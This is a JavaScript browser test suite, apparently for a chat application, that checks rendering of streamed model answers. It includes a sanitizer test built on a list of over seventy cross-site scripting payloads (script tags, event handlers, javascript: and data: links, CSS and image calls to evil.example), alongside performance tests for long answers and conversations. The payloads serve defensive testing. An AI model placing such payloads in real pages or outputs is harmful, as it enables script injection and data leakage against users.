// What models say becomes elements: hostile text, whatever size of pieces, long answers, long conversations.
import test from 'node:test';
import assert from 'node:assert/strict';
import { delta, done, finish, modelAt, rawUpstream, streamHead, usage } from './upstream.mjs';
import { assertQuiet, noBrowser, signedIn, startBrowser } from './browser.mjs';

const lastAnswer = (page) => page.locator('.message.-assistant').last();
const over = (page) => lastAnswer(page).locator('.facts').waitFor();

/** Signed in, with an upstream that sends the texts of `pieces`, one event each. */
async function answering(t, browser, options) {
  const upstream = await rawUpstream(t, (socket) => socket.end(streamHead + upstream.pieces.map(delta).join('') + finish() + usage(3, 4) + done));
  upstream.pieces = ['x'];
  let model;
  const { hub, page } = await signedIn(t, browser, { ...options, prepare: async (made) => { model = await modelAt(made, upstream.address); } });
  await page.locator('.opener', { hasText: model }).waitFor();
  return { hub, page, upstream };
}

async function ask(page, upstream, pieces) {
  upstream.pieces = [pieces].flat();
  const before = await page.locator('.message.-assistant').count();
  await page.locator('.composer textarea').fill('Go');
  await page.locator('.composer textarea').press('Enter');
  await page.locator('.message.-assistant').nth(before).waitFor();
  await over(page);
}

const hostile = [
  '<script>globalThis.hacked=1</script>', '<img src=x onerror=globalThis.hacked=1>', '<img src="x" onerror="globalThis.hacked=1"/>', '<svg onload=globalThis.hacked=1>', '<svg><script>globalThis.hacked=1</script></svg>',
  '<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s>', '<svg><a xlink:href="javascript:globalThis.hacked=1"><text>x</text></a></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hacked=1>', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>', '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="javascript:globalThis.hacked=1"></object>', '<embed src="javascript:globalThis.hacked=1">', '<form action="javascript:globalThis.hacked=1"><button>x</button></form>', '<button formaction="javascript:globalThis.hacked=1">x</button>', '<input autofocus onfocus=globalThis.hacked=1>',
  '<details open ontoggle=globalThis.hacked=1>x</details>', '<video src=x onerror=globalThis.hacked=1></video>', '<audio src=x onerror=globalThis.hacked=1>', '<body onload=globalThis.hacked=1>', '<marquee onstart=globalThis.hacked=1>x</marquee>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:1)}</style>', '<link rel=stylesheet href="https://evil.example/x.css">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<template><img src=x onerror=globalThis.hacked=1></template>',
  '<a href="javascript:globalThis.hacked=1">x</a>', '<p style="position:fixed;inset:0">over all</p>', '<div onclick=globalThis.hacked=1 style=x>x</div>', '<!--<img src=x onerror=globalThis.hacked=1>-->', '<![CDATA[<img src=x onerror=globalThis.hacked=1>]]>',
  '[a](javascript:globalThis.hacked=1)', '[a](JaVaScRiPt:globalThis.hacked=1)', '[a]( javascript:globalThis.hacked=1)', '[a](java\nscript:globalThis.hacked=1)', '[a](&#106;avascript:globalThis.hacked=1)',
  '[a](&#x6A;avascript&colon;globalThis.hacked=1)', '[a](<javascript:globalThis.hacked=1>)', '[a](data:text/html,<script>globalThis.hacked=1</script>)', '[a](data:text/html;base64,PHNjcmlwdD4=)', '[a](vbscript:msgbox)',
  '[a](file:///etc/passwd)', '[a](blob:https://x/y)', '[a](/providers)', '[a](//evil.example)', '[a](\\\\evil.example)',
  '<javascript:globalThis.hacked=1>', '<data:text/html,x>', '[a]: javascript:globalThis.hacked=1\n\n[a]', '[a][b]\n\n[b]: data:text/html,x', '![x](https://evil.example/pixel.png?secret)',
  '![x](javascript:globalThis.hacked=1)', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', '![x](x" onerror="globalThis.hacked=1)', '![" onerror="globalThis.hacked=1](x)', '[![x](https://evil.example/p.png)](javascript:globalThis.hacked=1)',
  '$\\href{javascript:globalThis.hacked=1}{x}$', '$$\\url{javascript:globalThis.hacked=1}$$', '$\\includegraphics{https://evil.example/x.png}$', '$\\htmlData{onclick=globalThis.hacked=1}{x}$', '$\\htmlStyle{position:fixed}{x}$',
  '```"><img src=x onerror=globalThis.hacked=1>\ncode\n```', '```html\n<script>globalThis.hacked=1</script>\n```', '`<img src=x onerror=globalThis.hacked=1>`', '| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| <script>globalThis.hacked=1</script> |', '# <img src=x onerror=globalThis.hacked=1>',
  '- [x] <img src=x onerror=globalThis.hacked=1>', '> <script>globalThis.hacked=1</script>', '\u202e<script>globalThis.hacked=1</script>', '<<script>script>globalThis.hacked=1<</script>/script>', '<a href="https://a.b" ping="https://evil.example" target=_top>x</a>',
  '&lt;img src=x onerror=globalThis.hacked=1&gt;', '<img\u0000 src=x onerror=globalThis.hacked=1>',
];

async function hostileText(t, browser) {
  assert.ok(hostile.length >= 60);
  const { hub, page, upstream } = await answering(t, browser);
  const foreign = [];
  page.on('request', (request) => { if (!request.url().startsWith(hub.address) && !/^(data|blob):/.test(request.url())) foreign.push(request.url()); });
  const allowed = 'a article blockquote br button code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 header hr img input label li ol p pre span strong summary svg table tbody td th thead tr ul use'.split(' ');
  for (const part of [hostile.slice(0, 36), hostile.slice(36)]) {
    await ask(page, upstream, part.join('\n\n---\n\n').match(/[\s\S]{1,48}/g));
    await page.waitForTimeout(300); // formulas
    const found = await lastAnswer(page).locator('.markdown').evaluate((el, names) => {
      const all = [...el.querySelectorAll('*')].filter((each) => !each.closest('.formula'));
      const everything = [...el.querySelectorAll('*')];
      return {
        tags: [...new Set(all.map((each) => each.localName))].filter((name) => !names.includes(name)),
        handlers: everything.filter((each) => [...each.attributes].some(({ name }) => name.startsWith('on'))).length,
        styles: all.filter((each) => each.hasAttribute('style')).length,
        links: everything.flatMap((each) => [each.getAttribute('href'), each.getAttribute('xlink:href'), each.getAttribute('src')]).filter((link) => link && !/^(https?:\/\/|mailto:|\/ui\/|data:image\/(png|jpeg|gif|webp))/.test(link)),
        images: el.querySelectorAll('img').length,
        loose: [...el.querySelectorAll('a')].filter((each) => !/noopener/.test(each.rel) || each.target !== '_blank').length,
      };
    }, allowed);
    assert.deepEqual(found, { tags: [], handlers: 0, styles: 0, links: [], images: 0, loose: 0 });
  }
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
  assert.deepEqual(foreign, []);
  assertQuiet(page);
}

const markdown = [
  '# One\n\n## Two\n\nText with **bold**, *emphasis*, ~~strike~~, `code` and <b>html</b> &amp; more.',
  '1. one\n2. two\n   - inner\n   - [x] done\n3. three\n\n> quote\n>\n> > deeper\n\n---\n\nhard  \nbreak, https://example.org/a_(b) and [link](https://example.org "t").',
  '| a | b |\n|:--|--:|\n| 1 | `x` |\n\n```js\nconst answer = 42; // why\n```\n\nInline $x^2$ and\n\n$$\n\\frac{1}{2}\n$$\n\nFootnote[^1]\n\n[^1]: text',
  '这是**「粗体」**文字，`代码`。\n\n- 一\n- 二\n\n```unknown-language\nplain\n```\n\n$\\badcommand{$',
].join('\n\n');

const dom = (page) => lastAnswer(page).locator('.markdown').evaluate((el) => el.outerHTML.replaceAll(/ id="[^"]*"/g, ''));

async function anyPieces(t, browser) {
  const { page, upstream } = await answering(t, browser);
  await ask(page, upstream, markdown);
  const settled = () => page.waitForFunction(() => document.querySelectorAll('.hl-keyword').length > 0 && [...document.querySelectorAll('.message:last-child .formula')].every((el) => el.querySelector('.katex') || el.classList.contains('-plain')));
  await settled();
  const whole = await dom(page);
  for (const tag of ['<h3', '<h4', '<strong>bold', '<em>', '<del>', '<ol>', '<blockquote>', '<hr>', '<br>', '<table>', 'class="-right"', 'katex', 'hl-keyword', '<strong>「粗体」', 'aria-label="done"', '-plain', '&lt;b&gt;html', ' &amp; more']) assert.ok(whole.includes(tag), tag);
  for (const size of [1, 3, 7, 64]) {
    await ask(page, upstream, markdown.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')));
    await settled();
    await page.waitForTimeout(200);
    assert.equal(await dom(page), whole, `pieces of ${size}`);
  }
  assertQuiet(page);
}

async function longAnswer(t, browser) {
  const { page, upstream } = await answering(t, browser);
  const part = '## 标题 Heading\n\nSome **bold** text with `code`, a [link](https://example.org) and 一些中文，混在一起。\n\n- first item\n- second item with *emphasis*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nfunction f(a, b) {\n  return a + b; // sum\n}\n```\n\n';
  const text = part.repeat(Math.ceil(20_520 / part.length)).slice(0, 20_520);
  const pieces = text.match(/[\s\S]{1,24}/gu);
  assert.ok(Math.abs(pieces.length - 855) < 5, String(pieces.length));
  // Paced, as a model would: the hub sends at most sixty frames a second, so that all of them arrive in one would prove nothing.
  upstream.answer = async (socket) => {
    socket.write(streamHead);
    for (const piece of pieces) {
      socket.write(delta(piece));
      await new Promise((resolve) => { setTimeout(resolve, 4); });
    }
    socket.end(finish() + usage(3, 4) + done);
  };
  await page.evaluate(() => {
    globalThis.long = [];
    new PerformanceObserver((list) => { for (const entry of list.getEntries()) globalThis.long.push(entry.duration); }).observe({ type: 'longtask' });
  });
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Performance.enable');
  const metrics = async () => Object.fromEntries((await devtools.send('Performance.getMetrics')).metrics.map(({ name, value }) => [name, value]));
  const before = await metrics();
  await page.locator('.composer textarea').fill('Go');
  await page.locator('.composer textarea').press('Enter');
  await over(page);
  const after = await metrics();
  const spent = (name) => (after[name] - before[name]).toFixed(2);
  const long = await page.evaluate(() => globalThis.long);
  t.diagnostic(`20 KB in ${pieces.length} pieces: main thread ${spent('TaskDuration')} s, of this script ${spent('ScriptDuration')} s, layout ${spent('LayoutDuration')} s, style ${spent('RecalcStyleDuration')} s; ${long.length} tasks above 50 ms (${Math.round(long.reduce((a, b) => a + b, 0))} ms)`);
  assert.equal(await lastAnswer(page).locator('table').count(), text.split('|---|---|').length - 1);
  assert.equal(await lastAnswer(page).locator('figure.code').count(), text.split('```js').length - 1);
}

async function hugeAnswer(t, browser) {
  const { page, upstream } = await answering(t, browser);
  const megabyte = `${'A paragraph of an endless answer, with words and more words.\n\n'.repeat(400)}${'x'.repeat(400_000)}\n\n${'> '.repeat(500)}deep\n\n${'['.repeat(20_000)}\n\n${'**a '.repeat(20_000)}\n\nThe end.`;
  const begun = Date.now();
  await ask(page, upstream, megabyte.match(/[\s\S]{1,16384}/g));
  t.diagnostic(`${megabyte.length} characters of hostile text were shown after ${Date.now() - begun} ms`);
  assert.match(await lastAnswer(page).locator('.markdown').evaluate((el) => el.textContent), /The end\.$/);
  await page.locator('.composer textarea').fill('still alive');
  assertQuiet(page);
}

async function longConversation(t, browser) {
  const { hub, page } = await answering(t, browser);
  const made = await page.evaluate(async () => {
    const nodes = {};
    const kids = {};
    let parent = '';
    for (let i = 0; i < 500; i++) {
      const id = `n${i}`;
      const text = `Message ${i}. ${'Some text of a long conversation, with **bold** and `code`. '.repeat(34)}`;
      nodes[id] = i % 2 ? { id, parent, role: 'assistant', phase: 'done', model: 'm', providerId: 1, text, reasoning: '', toolCalls: [], lastSeq: 1, at: i, usage: null, counted: null, requestId: '', finishReason: 'stop' } : { id, parent, role: 'user', text, at: i };
      kids[parent] = [id];
      parent = id;
    }
    const conversation = { id: 'long', hubId: null, title: 'Long', named: true, pinned: false, archived: false, temporary: false, createdAt: 1, updatedAt: Date.now(), choice: null, params: {}, nodes, kids, chosen: {} };
    const database = await new Promise((resolve) => { const request = indexedDB.open('nexus-hub'); request.onsuccess = () => resolve(request.result); });
    const transaction = database.transaction(['heads', 'bodies'], 'readwrite');
    transaction.objectStore('heads').put({ id: 'long', title: 'Long', pinned: false, archived: false, createdAt: 1, updatedAt: Date.now() });
    transaction.objectStore('bodies').put(conversation);
    await new Promise((resolve) => { transaction.oncomplete = resolve; });
    return Object.keys(nodes).length;
  });
  assert.equal(made, 500);
  await page.goto(`${hub.address}/app/providers`);
  await page.locator('h1').waitFor();
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Performance.enable');
  const layout = async () => (await devtools.send('Performance.getMetrics')).metrics.find(({ name }) => name === 'LayoutDuration').value;
  await page.evaluate(() => { history.pushState({}, '', '/app/chat'); });
  await page.locator('.rail').getByRole('link', { name: 'Chat' }).click();
  await page.locator('.conversation-list .entry a').waitFor();
  const before = await layout();
  const begun = Date.now();
  await page.locator('.conversation-list .entry a').click();
  await page.getByText('Message 499.').waitFor();
  t.diagnostic(`500 messages: shown after ${Date.now() - begun} ms, layout ${Math.round((await layout() - before) * 1000)} ms`);
  const scroller = page.locator('.scroller');
  assert.ok(await scroller.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight < 8), 'the end is in view');
  const counted = await page.locator('.message').count();
  assert.ok(counted <= 100, `${counted} messages are made at once`);
  for (let i = 0; i < 12 && (await page.locator('.message').count()) < 500; i++) {
    await scroller.evaluate((el) => { el.scrollTop = 0; });
    await page.waitForTimeout(100);
  }
  await page.getByText('Message 0.').waitFor();
  assert.equal(await page.locator('.message').count(), 500);
}

test('answers in a browser', { skip: noBrowser }, async (t) => {
  const browser = await startBrowser(t);
  const claim = (name, body) => t.test(name, (t) => body(t, browser));
  await claim(`${hostile.length} ways to harm do nothing`, hostileText);
  await claim('the elements are the same whatever pieces an answer comes in', anyPieces);
  await claim('a long answer costs little', longAnswer);
  await claim('a megabyte that would choke a parser is shown', hugeAnswer);
  await claim('a conversation of 500 messages opens at its end, and all of it is there', longConversation);
});
